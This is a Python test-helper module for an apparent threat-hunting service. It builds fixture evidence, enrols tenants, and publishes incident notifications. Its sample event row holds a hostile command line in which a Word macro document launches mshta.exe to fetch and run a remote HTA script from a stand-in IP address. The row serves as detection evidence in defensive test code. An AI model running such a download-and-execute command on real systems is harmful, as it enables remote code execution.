"""Shortcuts to a published notification: an approved customer, evidence as a hunt leaves it, a draft, a second person."""

import json
from datetime import UTC, datetime

from huntline.enrolment import services as enrolment
from huntline.enrolment.models import Application
from huntline.enrolment.privacy import CURRENT
from huntline.hunting.canonical import canonical, sha256
from huntline.hunting.models import Disclosure, Evidence
from huntline.identity.queries import provider_scope_of, scope_of
from huntline.incidents import Category, Severity
from huntline.incidents.publication import publish_draft
from huntline.incidents.revision import revise_notification
from huntline.incidents.services import DraftForm, change_draft, create_draft, submit_draft

COLUMNS = {
    "Timestamp": "datetime",
    "DeviceId": "string",
    "DeviceName": "string",
    "FileName": "string",
    "FolderPath": "string",
    "SHA1": "string",
    "ProcessId": "long",
    "ProcessCommandLine": "string",
    "ProcessCreationTime": "datetime",
    "AccountDomain": "string",
    "AccountName": "string",
    "InitiatingProcessFileName": "string",
    "InitiatingProcessId": "long",
    "InitiatingProcessCommandLine": "string",
    "RemoteIP": "string",
    "RemoteUrl": "string",
    "ReportId": "long",
    "$table": "string",
}
ROW = {
    "Timestamp": "2026-11-15T22:14:03.1234567Z",
    "DeviceId": "d1" * 20,
    "DeviceName": "ws01.aurora.example",
    "FileName": "mshta.exe",
    "FolderPath": r"C:\Windows\System32\mshta.exe",
    "SHA1": "a" * 40,
    "ProcessId": 4711,
    "ProcessCommandLine": "mshta.exe http://203.0.113.9/x.hta",
    "ProcessCreationTime": "2026-11-15T22:14:03.1230000Z",
    "AccountDomain": "AURORA",
    "AccountName": "mina",
    "InitiatingProcessFileName": "winword.exe",
    "InitiatingProcessId": 4000,
    "InitiatingProcessCommandLine": "winword.exe /q invoice.docm",
    "ReportId": 77,
    "$table": "DeviceProcessEvents",
}
QUERY = "DeviceProcessEvents | where FileName =~ 'mshta.exe'"


def capture(tenant_id, rows=(ROW,), columns=None, **fields) -> Evidence:
    """Freeze rows as the provider's hunter would."""
    columns = columns or {name: COLUMNS[name] for name in rows[0]}
    chosen = canonical([[row.get(name) for name in columns] for row in rows])
    values = {
        "run_id": "00000000-0000-7000-8000-000000000001",
        "query": QUERY,
        "query_sha256": sha256(QUERY),
        "parameters_json": json.dumps({}),
        "window_start": datetime(2026, 11, 1, tzinfo=UTC),
        "window_end": datetime(2026, 11, 16, tzinfo=UTC),
        "asked_at": datetime(2026, 11, 16, tzinfo=UTC),
        "max_rows": 1000,
        "schema_version": "1",
        "engine_version": "26.9",
        "compiler_version": "1",
        "sql_sha256": "0" * 64,
        "tables": ["DeviceProcessEvents"],
        "columns": [{"name": name, "type": kind} for name, kind in columns.items()],
        "rows_json": chosen,
        "rows_sha256": sha256(chosen),
        "row_count": len(rows),
        "truncated": False,
        "row_digests": b"",
        "by_provider": True,
        "captured_by_id": "hunter",
        "captured_by": "hunter@watchtower.example",
    }
    evidence = Evidence(tenant_id=tenant_id, **(values | fields))
    evidence.save()
    return evidence


def enrol(cast, tenant: str = "aurora"):
    """Approve the tenant and return the scope of its administrator."""
    admin = scope_of(cast.people[f"{tenant}_admin"], cast.tenants[tenant])
    form = enrolment.ApplicationForm("Mina Kim", f"mina@{tenant}.example", CURRENT, accepted=True)
    application: Application = enrolment.submit_application(admin, form)
    enrolment.approve_application(provider_scope_of(cast.account_manager), application.pk)
    return admin


def form_for(*evidence, **fields) -> DraftForm:
    """Return a complete draft over this evidence."""
    values = {
        "title": "Script host started by a document",
        "severity": Severity.HIGH,
        "category": Category.EXECUTION,
        "summary": "A document started mshta.exe, which loaded a script from the internet.",
        "what_happened": "At 22:14 winword.exe started mshta.exe on ws01.",
        "recommended_steps": ["Isolate ws01 from the network.", "Reset the password of mina."],
        "techniques": ["T1218.005", "T1566"],
        "evidence_ids": [row.pk for row in evidence],
        "disclosure": Disclosure.FULL,
    }
    return DraftForm(**(values | fields))


def publish(cast, tenant: str = "aurora", rows=(ROW,), **fields):
    """Publish a notification for an enrolled tenant and return it."""
    hunter = scope_of(cast.hunter, cast.tenants[tenant])
    lead = scope_of(cast.hunt_lead, cast.tenants[tenant])
    draft = create_draft(hunter, form_for(capture(cast.tenants[tenant].pk, rows), **fields))
    submit_draft(hunter, draft.pk)
    return publish_draft(lead, draft.pk)


def publish_again(cast, notification, tenant: str = "aurora", rows=(ROW,), **fields):
    """Publish the next version of a notification and return it."""
    hunter = scope_of(cast.hunter, cast.tenants[tenant])
    lead = scope_of(cast.hunt_lead, cast.tenants[tenant])
    draft = revise_notification(hunter, notification.pk)
    form = form_for(capture(cast.tenants[tenant].pk, rows), **({"change_note": "Corrected."} | fields))
    change_draft(hunter, draft.pk, form)
    submit_draft(hunter, draft.pk)
    return publish_draft(lead, draft.pk)
